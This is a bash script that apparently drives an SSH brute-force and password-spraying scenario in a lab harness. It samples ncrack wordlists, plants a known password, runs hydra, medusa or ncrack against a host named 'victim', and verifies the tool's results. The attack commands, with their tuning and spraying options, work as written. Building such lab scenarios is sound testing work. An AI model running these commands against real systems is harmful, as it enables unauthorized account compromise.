#!/bin/bash
# ssh-bruteforce.sh - the workload of the `ssh-bruteforce` scenario.
#
# Guesses SSH passwords of the victim's account with a real brute-force
# tool from Debian's archive, then checks that the attack played out as the
# subscenario designed it.
#
# 1. The wordlists. Every list is a seeded sample of one of the lists that
#    Debian's ncrack package ships in /usr/share/ncrack (BF_WORDLIST:
#    default.pwd, jtr.pwd, phpbb.pwd, top50000.pwd; BF_USERLIST: minimal.usr,
#    default.usr, common.usr), keeping the list's own order (most common
#    first). The sample is drawn with awk's rand() seeded by BF_LIST_SEED,
#    so the same manifest gives the same lists; their sha256 is printed.
#    - mode `single` (one account): BF_LIST_SIZE passwords; the account's
#      true password BF_PASSWORD is removed from the sample wherever it
#      occurs, then placed at 1-based BF_POSITION (0: absent, the attack
#      cannot succeed). The login is BF_USER.
#    - mode `spray` (password spraying): BF_USERS_SIZE user names sampled
#      from BF_USERLIST with the account BF_USER placed at BF_USER_POSITION,
#      and BF_LIST_SIZE of the most common passwords of BF_WORDLIST, in
#      order (the sprayer's few guesses), with the true password placed at
#      BF_POSITION (0: absent). ncrack tries each password against every
#      user before the next password (--passwords-first); medusa gives
#      each thread a user name of its own (-L).
#    A list's size counts the true entry when it is in the list.
# 2. The attack, with BF_TOOL against BF_TARGET port 22:
#    hydra   -t BF_TASKS parallel tasks, -w BF_WAIT seconds to wait for a
#            reply, -W BF_CONNECT_WAIT seconds between a task's connects,
#            -e BF_EXTRA (n: empty password, s: login as password,
#            r: reversed login; "none" for no extra guesses), -f when
#            BF_STOP_ON_SUCCESS=yes, -V (every attempt is logged)
#    medusa  -t BF_TASKS concurrent logins (in spray mode -L: one user name
#            per thread), -e BF_EXTRA (n, s, ns or none),
#            -m BANNER:BF_BANNER (the client's SSH version string;
#            "default" keeps medusa's own SSH-2.0-MEDUSA_1.0), -f
#    ncrack  -T BF_TIMING template, service options CL=BF_TASKS (parallel
#            connections), at=BF_AUTH_TRIES (guesses per connection),
#            cd=BF_CONNECT_DELAY ms (delay between connection initiations),
#            -f, -v (and --passwords-first in spray mode)
# 3. The check. BF_EXPECT=found: the tool reports exactly one credential,
#    BF_USER with BF_PASSWORD, and no other. BF_EXPECT=not-found: the tool
#    ran the whole list to its end and reports no credential. The tool's
#    own output (logs/attacker.log) is the evidence. Exit 0 when the attack
#    played out as designed (a failed attack included), 1 otherwise.
set -euo pipefail

: "${BF_TOOL:?BF_TOOL must be hydra, medusa or ncrack}"
: "${BF_USER:?}" "${BF_PASSWORD:?}" "${BF_EXPECT:?}"
TARGET=${BF_TARGET:-victim}
MODE=${BF_MODE:-single}
WORDLIST=${BF_WORDLIST:-default.pwd}
USERLIST=${BF_USERLIST:-minimal.usr}
LIST_SIZE=${BF_LIST_SIZE:-20}
LIST_SEED=${BF_LIST_SEED:-1}
POSITION=${BF_POSITION:-0}
TASKS=${BF_TASKS:-4}
STOP=${BF_STOP_ON_SUCCESS:-yes}
EXTRA=${BF_EXTRA:-none}
LISTS=/usr/share/ncrack
WORK=/tmp/bruteforce
OUT=$WORK/tool-output.log
mkdir -p "$WORK"
cd "$WORK"

say() { echo "ssh-bruteforce: $*"; }
fail() {
    echo "ssh-bruteforce: FAILED ($BF_TOOL, $MODE, expect $BF_EXPECT): $*" >&2
    exit 1
}

case "$BF_EXPECT" in found | not-found) ;; *) fail "BF_EXPECT must be found or not-found" ;; esac
case "$MODE" in single | spray) ;; *) fail "BF_MODE must be single or spray" ;; esac
[ -f "$LISTS/$WORDLIST" ] || fail "no word list $LISTS/$WORDLIST"
if [ "$BF_EXPECT" = found ]; then
    [ "$POSITION" -ge 1 ] || fail "a found attack needs the password in the list (BF_POSITION >= 1)"
else
    [ "$POSITION" -eq 0 ] || fail "a not-found attack needs BF_POSITION 0"
fi

# Entries of a list: no comment lines, printable ASCII without blanks.
entries() { grep -v -e '^#' "$1" | tr -d '\r' | grep -E '^[!-~]+$' || true; }
# A seeded sample of N entries of stdin, in their original order; FIXED is
# removed wherever it occurs. (awk, not head, cuts the lists: head would
# close the pipe early and pipefail would see sort die of SIGPIPE.)
sample() { # sample N SEED FIXED
    awk -v fixed="$3" '$0 != fixed && !seen[$0]++' |
        awk -v seed="$2" 'BEGIN { srand(seed) } { printf "%.12f\t%d\t%s\n", rand(), NR, $0 }' |
        sort -t "$(printf '\t')" -k1,1 | awk -v n="$1" 'NR <= n' | sort -t "$(printf '\t')" -k2,2n | cut -f3-
}
# stdin with LINE inserted so that it becomes line POS (0: not inserted).
place() { # place POS LINE
    awk -v pos="$1" -v line="$2" '
        NR == pos { print line; done = 1 }
        { print }
        END { if (pos > 0 && !done) print line }'
}

# List sizes count the true entry when it is placed in the list.
decoys=$LIST_SIZE
[ "$POSITION" -eq 0 ] || decoys=$((LIST_SIZE - 1))
[ "$POSITION" -le "$LIST_SIZE" ] || fail "BF_POSITION $POSITION is past the list's end ($LIST_SIZE)"
users=$WORK/users.txt
passwords=$WORK/passwords.txt
if [ "$MODE" = single ]; then
    printf '%s\n' "$BF_USER" >"$users"
    entries "$LISTS/$WORDLIST" | sample "$decoys" "$LIST_SEED" "$BF_PASSWORD" |
        place "$POSITION" "$BF_PASSWORD" >"$passwords"
else
    [ -f "$LISTS/$USERLIST" ] || fail "no user list $LISTS/$USERLIST"
    users_size=${BF_USERS_SIZE:-10}
    if [ "${BF_USER_POSITION:-1}" -lt 1 ] || [ "${BF_USER_POSITION:-1}" -gt "$users_size" ]; then
        fail "BF_USER_POSITION must be within 1..$users_size"
    fi
    entries "$LISTS/$USERLIST" | sample "$((users_size - 1))" "$LIST_SEED" "$BF_USER" |
        place "${BF_USER_POSITION:-1}" "$BF_USER" >"$users"
    # The most common passwords, in order: a sprayer's few guesses.
    entries "$LISTS/$WORDLIST" | awk -v fixed="$BF_PASSWORD" '$0 != fixed && !seen[$0]++' |
        awk -v n="$decoys" 'NR <= n' | place "$POSITION" "$BF_PASSWORD" >"$passwords"
fi
n_users=$(wc -l <"$users")
n_passwords=$(wc -l <"$passwords")
at=$(grep -n -x -F -e "$BF_PASSWORD" "$passwords" | cut -d: -f1 || true)
say "target $TARGET:22, account '$BF_USER', $MODE mode, tool $BF_TOOL, expect $BF_EXPECT"
say "users: $n_users ($(sha256sum <"$users" | cut -c1-16)), $(if [ "$MODE" = spray ]; then echo "sampled from $USERLIST, "; fi)account at line $(grep -n -x -F -e "$BF_USER" "$users" | cut -d: -f1)"
say "passwords: $n_passwords ($(sha256sum <"$passwords" | cut -c1-16)) from $WORDLIST, true password at line ${at:-none}"
[ -z "$at" ] || [ "$BF_EXPECT" = found ] || fail "the true password is in the list of a not-found attack"
[ -n "$at" ] || [ "$BF_EXPECT" = not-found ] || fail "the true password is missing from the list"

# ---- the attack ---------------------------------------------------------
cmd=()
case "$BF_TOOL" in
hydra)
    cmd=(hydra -I -V -t "$TASKS" -w "${BF_WAIT:-10}" -W "${BF_CONNECT_WAIT:-0}")
    if [ "$MODE" = single ]; then cmd+=(-l "$BF_USER"); else cmd+=(-u -L "$users"); fi
    cmd+=(-P "$passwords")
    [ "$EXTRA" = none ] || cmd+=(-e "$EXTRA")
    [ "$STOP" != yes ] || cmd+=(-f)
    cmd+=("ssh://$TARGET")
    ;;
medusa)
    cmd=(medusa -b -v 5 -h "$TARGET" -M ssh -t "$TASKS")
    if [ "$MODE" = single ]; then cmd+=(-u "$BF_USER"); else cmd+=(-U "$users" -L); fi
    cmd+=(-P "$passwords")
    [ "$EXTRA" = none ] || cmd+=(-e "$EXTRA")
    [ "${BF_BANNER:-default}" = default ] || cmd+=(-m "BANNER:$BF_BANNER")
    [ "$STOP" != yes ] || cmd+=(-f)
    ;;
ncrack)
    opts="CL=$TASKS,at=${BF_AUTH_TRIES:-3},cd=${BF_CONNECT_DELAY:-0}ms"
    cmd=(ncrack -v -T "${BF_TIMING:-3}" -U "$users" -P "$passwords")
    [ "$MODE" = single ] || cmd+=(--passwords-first)
    [ "$STOP" != yes ] || cmd+=(-f)
    cmd+=("ssh://$TARGET,$opts")
    ;;
*) fail "BF_TOOL must be hydra, medusa or ncrack, not '$BF_TOOL'" ;;
esac
# The passwords are in the files only; the command line shows no secret.
say "running: ${cmd[*]}"
start=$(date +%s%N)
# The tool's output goes to the log line by line as it comes (stdbuf, tee),
# so that even an attack cut short by the run's end shows how far it got.
set +e
timeout 55 stdbuf -oL -eL "${cmd[@]}" 2>&1 | tee "$OUT"
rc=${PIPESTATUS[0]}
set -e
elapsed=$((($(date +%s%N) - start) / 1000000))
say "$BF_TOOL exited with status $rc after ${elapsed} ms"
[ "$rc" -ne 124 ] || fail "$BF_TOOL did not finish within 55 s"

# ---- the check ----------------------------------------------------------
# Every credential the tool reports, as "user<TAB>password".
found=$WORK/found.txt
case "$BF_TOOL" in
hydra)
    # [22][ssh] host: victim   login: alice   password: secret
    sed -n -E 's/^\[22\]\[ssh\] host: [^ ]+ +login: ([^ ]+) +password: (.*)$/\1\t\2/p' "$OUT" >"$found"
    grep -q -E '^1 of 1 target (successfully )?completed, [0-9]+ valid passwords? found' "$OUT" ||
        fail "hydra did not complete its run"
    ;;
medusa)
    # ACCOUNT FOUND: [ssh] Host: victim User: alice Password: secret [SUCCESS]
    sed -n -E 's/^ACCOUNT FOUND: \[ssh\] Host: [^ ]+ User: (.*) Password: (.*) \[SUCCESS\]$/\1\t\2/p' "$OUT" >"$found"
    [ "$rc" -eq 0 ] || fail "medusa exited with status $rc"
    if grep -q -E '^(ALERT|FATAL):' "$OUT"; then
        fail "medusa reported an error: $(grep -E '^(ALERT|FATAL):' "$OUT" | head -1)"
    fi
    # (medusa reports a dropped connection as an ERROR and tries again.)
    # Every guess it made: "ACCOUNT CHECK: [ssh] Host: victim (1 of 1, 0
    # complete) User: alice (1 of 1, 0 complete) Password: secret (3 of 9
    # complete)"; a failed attack must have made them all.
    checked=$(sed -n -E 's/^ACCOUNT CHECK: \[ssh\] Host: .* User: ([^ ]+) \(.* Password: ([^ ]*) \([0-9]+ of [0-9]+ complete\)$/\1\t\2/p' "$OUT" | sort -u | wc -l)
    [ "$checked" -gt 0 ] || fail "medusa tried no password"
    if [ "$BF_EXPECT" = not-found ] && [ "$checked" -lt $((n_users * n_passwords)) ]; then
        fail "medusa made $checked distinct guesses of the $((n_users * n_passwords)) in its lists"
    fi
    ;;
ncrack)
    # 10.100.7.3 22/tcp ssh: 'alice' 'secret'
    sed -n -E "s/^[0-9.]+ 22\/tcp ssh: '(.*)' '(.*)'\$/\1\t\2/p" "$OUT" | sort -u >"$found"
    [ "$rc" -eq 0 ] || fail "ncrack exited with status $rc"
    grep -q '^Ncrack done: 1 service scanned' "$OUT" || fail "ncrack did not complete its run"
    ;;
esac
n_found=$(wc -l <"$found")
say "$n_found credential(s) reported"
if [ "$BF_EXPECT" = found ]; then
    [ "$n_found" -eq 1 ] || fail "expected exactly one credential, the tool reported $n_found"
    [ "$(cat "$found")" = "$BF_USER	$BF_PASSWORD" ] ||
        fail "the reported credential is not the account's: $(cut -f1 "$found")"
    say "OK: found the password of '$BF_USER' (guess $at of $n_passwords)"
else
    [ "$n_found" -eq 0 ] || fail "a credential was reported though the password was not in the list"
    if [ "$BF_TOOL" = hydra ]; then
        grep -q ', 0 valid password found' "$OUT" || fail "hydra's summary is not '0 valid password found'"
    fi
    say "OK: the password of '$BF_USER' was not found ($n_passwords guesses x $n_users user(s) exhausted)"
fi
